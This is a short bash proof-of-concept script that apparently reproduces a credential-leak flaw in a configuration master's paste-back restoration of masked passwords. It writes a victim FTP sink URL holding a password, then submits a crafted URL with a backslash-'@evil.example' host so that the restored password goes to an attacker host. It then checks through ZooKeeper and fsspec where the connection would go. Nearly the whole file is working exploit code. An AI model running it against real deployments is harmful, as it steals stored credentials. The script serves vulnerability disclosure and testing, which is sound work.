#!/bin/bash
# Paste-back restoration moves a hidden password to another host: the restored URL's host
# part ends at a backslash, URL parsers (urllib, fsspec) take the host after the LAST '@'.
# usage: repro/pasteback_exfil.sh MASTER_URL ZKPORT MASTER_DATA_DIR
M=$1; ZK=$2; D=$3; cd "$(dirname "$0")/.."
curl -s -X PUT "$M/api/configs/victim" -H 'content-type: application/json' \
  -d '{"source":"null","sink":"dfs(\"ftp://ops:S3cretPw@ftp.corp/logs/app\")"}' >/dev/null
echo "listing shows: $(curl -s $M/api/configs/victim | grep -o 'ftp://[^"\\]*')"
# a writer who cannot read the password pastes it back, pointing at their own host
curl -s -X PUT "$M/api/configs/thief" -H 'content-type: application/json' \
  -d '{"source":"null","sink":"dfs(\"ftp://ops:***@ftp.corp\\\\@evil.example/x/y\")"}' | head -c 300; echo
.venv/bin/python - "$ZK" "$D" <<'P'
import sys, json
from kazoo.client import KazooClient
cred = dict(l.split("=", 1) for l in open(sys.argv[2] + "/zk-auth").read().split() if "=" in l)["master"]
zk = KazooClient(f"127.0.0.1:{sys.argv[1]}", auth_data=[("digest", cred)]); zk.start(10)
raw = zk.get("/flume/logical/thief")[0].decode(); print("stored:", raw[:300])
from fsspec.utils import infer_storage_options
import re
url = re.search(r'ftp://[^"]*', json.loads(raw).get("sink", raw)).group(0).replace("\\\\", "\\")
print("fsspec connects to:", {k: v for k, v in infer_storage_options(url).items() if k in ("host", "username", "password")})
zk.stop()
P
